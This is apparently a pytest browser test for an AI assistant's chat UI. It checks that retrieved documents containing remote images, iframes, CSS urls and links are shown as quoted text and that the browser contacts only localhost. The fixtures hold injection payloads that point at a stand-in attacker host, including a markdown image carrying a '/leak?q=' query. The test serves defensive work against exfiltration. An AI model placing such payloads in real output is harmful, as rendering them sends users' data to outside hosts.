"""Nothing remote renders, in Debian's chromium: documents that hold remote images, HTML and links are quoted in
the chat and shown in the sources panel, and the browser makes no request to any host but 127.0.0.1."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from assistant.config import Settings
from assistant.embeddings import Embedder
from assistant.index import Index
from assistant.ingestion import Ingestor
from assistant.service import Assistant
from tests.ui_server import RunningUI, start_ui

pytestmark = pytest.mark.browser

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
TIMEOUT_MS = 90_000
ATTACKER = "http://attacker.example"

LYOPHILIZERS = f"""# Zentrix Labs lyophilization

## Lyophilizer facts

Zentrix Labs lyophilizer facts:

- Each Zentrix lyophilizer is requalified every year <img src="{ATTACKER}/img.png"> by the validation team.
- Zentrix lyophilizer chambers are cleaned in place ![chart][r1] after every cycle.
- [r1]: {ATTACKER}/reference.png
- Zentrix lyophilizer shelves hold 40,000 vials <img src="x.png" srcset="{ATTACKER}/srcset.png 2x"> in grade A.
- Zentrix lyophilizer loading is automated <picture><source srcset="{ATTACKER}/pic.png"><img src="y.png"></picture>.
- Zentrix lyophilizer alarms go to the duty engineer <iframe src="{ATTACKER}/frame"></iframe> at any hour.
- Zentrix lyophilizer vacuum pumps are serviced quarterly <svg><image href="{ATTACKER}/svg.png"/></svg> by the vendor.
- Zentrix lyophilizer condensers run at minus 80 degrees <a href="http://other.example/specs">specs</a> during drying.
- Zentrix lyophilizer doors are sealed <div style="background:url({ATTACKER}/css.png)">tight</div> during each cycle.
- Zentrix lyophilizer data go to the historian <link rel="stylesheet" href="{ATTACKER}/style.css"> every minute.
- Zentrix lyophilizer reports are at <{ATTACKER}/auto> and {ATTACKER}/bare for the client.
"""
DOCUMENTS = {
    "zentrix-lyophilization.md": LYOPHILIZERS,
    "zentrix-vials.txt": (
        f"Vial cap colour is checked by a Kappa camera ![i]({ATTACKER}/leak?q=kappa) at the end of the line.\n\n"
    ),
    "zentrix-filling.html": (
        "<html><head><title>Zentrix Labs vial filling</title></head><body><h1>Zentrix Labs vial filling</h1>"
        f'<p>Zentrix Labs fills 12,000 vials per hour &lt;img src="{ATTACKER}/html-text.png"&gt; on its isolator '
        "line in Tallinn.</p></body></html>"
    ),
}
QUESTIONS = (
    "What are the Zentrix Labs lyophilizer facts?",
    "Which camera checks the vial cap colour?",
    "How many vials per hour does Zentrix Labs fill?",
)


@pytest.fixture(scope="module")
def ui(embedder: Embedder, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningUI]:
    """The UI over a real index of the three documents."""
    base = tmp_path_factory.mktemp("remote-ui")
    docs = base / "docs"
    docs.mkdir()
    for name, text in DOCUMENTS.items():
        (docs / name).write_text(text, encoding="utf-8")
    settings = Settings(data_dir=base / "data", _env_file=None)  # type: ignore[call-arg]
    index = Index.open(settings, embedder)
    assert Ingestor(settings, index).run([docs]).ok
    running = start_ui(Assistant(settings, index))
    yield running
    running.close()


@pytest.fixture(scope="module")
def browser(ui: RunningUI) -> Iterator[dict[str, Any]]:
    """A chromium page on the UI; every request URL it makes is recorded."""
    if not CHROMIUM.exists():
        pytest.skip("chromium is not installed: apt-get install -y chromium")
    from playwright.sync_api import sync_playwright

    requests: list[str] = []
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        context = chromium.new_context(viewport={"width": 1440, "height": 1000})
        context.set_default_timeout(TIMEOUT_MS)
        context.on("request", lambda request: requests.append(request.url))
        page = context.new_page()
        page.on("request", lambda request: requests.append(request.url))
        page.goto(ui.url)
        page.wait_for_selector("#cmo-question textarea")
        yield {"page": page, "requests": requests}
        context.close()
        chromium.close()


def ask(page: Any, question: str) -> str:
    """Ask in the chat and wait until the answer and its sources panel are complete; returns the answer's text."""
    bots = page.locator('#cmo-chat [data-testid="bot"]')
    before = bots.count()
    page.fill("#cmo-question textarea", question)
    page.click("#cmo-ask")
    page.wait_for_function(
        """([before]) => {
            const bots = document.querySelectorAll('#cmo-chat [data-testid="bot"]');
            const panel = document.querySelector('#cmo-sources-box .cmo-sources');
            return bots.length > before && panel && panel.dataset.state === 'done';
        }""",
        arg=[before],
    )
    return str(bots.last.inner_text())


def test_quoted_remote_references_load_nothing_and_show_as_text(browser: dict[str, Any]) -> None:
    page, requests = browser["page"], browser["requests"]
    answers = [ask(page, question) for question in QUESTIONS]
    panel = page.locator("#cmo-sources-box")
    panel.scroll_into_view_if_needed()
    cards = page.locator('#cmo-sources-box .cmo-source[data-kind="cited"]')
    assert cards.count() >= 1
    page.wait_for_timeout(1000)  # an image that was going to load has asked for it by now
    hosts = {urlsplit(url).hostname for url in requests if urlsplit(url).scheme in ("http", "https", "ws", "wss")}
    assert hosts == {"127.0.0.1"}, sorted(u for u in requests if urlsplit(u).hostname != "127.0.0.1")

    for question, text in zip(QUESTIONS, answers, strict=True):
        assert "attacker.example" in text, (question, text)  # quoted, and shown as the characters it is made of
    assert "<img src=" in answers[0] and "![i](" in answers[1] and "<img src=" in answers[2], answers
    assert "attacker.example" in cards.first.locator(".cmo-passage").inner_text()
    live = "img, picture, source, iframe, svg image, video, link, a[href*='example']"
    assert page.locator(f"#cmo-chat [data-testid='bot'] :is({live})").count() == 0
    assert page.locator(f"#cmo-sources-box .cmo-passage :is({live})").count() == 0
